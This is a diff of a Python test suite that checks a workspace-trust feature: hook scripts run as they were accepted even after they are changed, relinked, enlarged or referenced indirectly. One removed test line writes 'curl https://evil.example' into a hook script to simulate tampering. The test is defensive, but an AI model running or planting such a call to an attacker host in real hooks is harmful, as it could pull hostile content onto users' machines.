@@ -49,20 +49,6 @@ def script(untrusted) -> Path:
     return untrusted.write(folder / "guard.sh", "echo accepted")
 
 
-def test_a_hooks_file_is_a_part_of_what_is_accepted(untrusted, script):
-    accepted = untrusted.accept()
-    assert set(accepted.config.hooks) == {"h"}
-    script.write_text("curl https://evil.example")
-    assert not accepted.is_current()
-    changed = untrusted.load(accepted)
-    assert changed.config.hooks == accepted.config.hooks  # runs as it was accepted
-    assert [item.key for item in changed.withheld] == ["hooks.h"]
-    assert guards_off(changed.withheld) == ""
-    after_restart = untrusted.load()
-    assert after_restart.config.hooks == {}
-    assert "the hook h, which can block calls" in guards_off(after_restart.withheld)
-
-
 def test_a_hook_without_an_event_waits_and_guards_nothing(untrusted):
     untrusted.in_root(0, {"hooks": {"odd": {"type": {}, "actions": []}}})
     item = untrusted.waiting()
@@ -75,22 +61,6 @@ def test_a_hooks_file_outside_the_folder_is_named_and_not_read(untrusted):
     untrusted.in_root(0, hook(str(path)))
     assert untrusted.waiting(trusts_workspace=True).uses == (str(path),)
     assert path not in untrusted.load(trusts_workspace=True).files
-
-
-@pytest.mark.parametrize("name", ["${env:NAME}.sh", "${env:ABSENT:guard}.sh", "${file:name}"])
-def test_a_hooks_file_behind_a_reference_is_a_part_of_what_is_accepted(untrusted, script, name):
-    untrusted.environ["NAME"] = "guard"
-    untrusted.in_root(0, hook(name))
-    untrusted.write(script.with_name("name"), "guard.sh\n")
-    accepted = untrusted.accept()
-    assert run_hook(accepted).stdout == "accepted\n"
-    script.write_text("echo changed")
-    assert not accepted.is_current()
-    changed = untrusted.load(accepted)
-    assert untrusted.waiting(accepted).key == "hooks.h"
-    assert run_hook(accepted).stdout == run_hook(changed).stdout == "accepted\n"
-    untrusted.accept(changed)
-    assert run_hook(untrusted.load(changed)).stdout == "changed\n"
 
 
 def test_a_hooks_file_that_only_a_file_of_the_users_names_never_runs_inside_the_folder(
@@ -124,20 +94,38 @@ def enlarge(path: Path) -> None:
     path.write_bytes(b"#" * files.MAX_BYTES + b"\necho changed")
 
 
-@pytest.mark.parametrize("swap", [change, link, link_the_directory, enlarge, Path.unlink])
-def test_a_hooks_file_that_changed_after_it_was_loaded_runs_as_it_was_accepted(
-    untrusted, script, swap
+@pytest.mark.parametrize(
+    ("name", "swap"),
+    [
+        *(("guard.sh", swap) for swap in (change, link, link_the_directory, enlarge, Path.unlink)),
+        *((name, change) for name in ("${env:NAME}.sh", "${env:ABSENT:guard}.sh", "${file:name}")),
+    ],
+)
+def test_a_hooks_file_that_changed_after_it_was_accepted_runs_as_it_was(
+    untrusted, script, name, swap
 ):
+    untrusted.environ["NAME"] = "guard"
+    untrusted.in_root(0, hook(name, "preToolCall"))
+    untrusted.write(script.with_name("name"), "guard.sh\n")
     accepted = untrusted.accept()
     swap(script)
+    assert not accepted.is_current() or swap is link_the_directory
     assert run_hook(accepted).stdout == "accepted\n"
     changed = untrusted.load(accepted)
     if swap is link_the_directory:  # the setting itself leads out of the folder now
         assert changed.config.hooks == {}
         return
-    assert untrusted.waiting(accepted).is_changed
+    item = untrusted.waiting(accepted)
+    assert (item.key, item.is_changed, guards_off([item])) == ("hooks.h", True, "")
+    assert changed.config.hooks == accepted.config.hooks
     assert run_hook(changed).stdout == "accepted\n"
     assert run_hook(untrusted.load(changed)).stdout == "accepted\n"
+    after_restart = untrusted.load()
+    assert after_restart.config.hooks == {}
+    assert "the hook h, which can block calls" in guards_off(after_restart.withheld)
+    untrusted.accept(changed)
+    ran = run_hook(untrusted.load(changed))
+    assert ran.stdout == {change: "changed\n", link: "accepted\n"}.get(swap, "")
 
 
 def test_a_hook_of_another_file_stays_in_force_when_its_script_changes(untrusted, script):
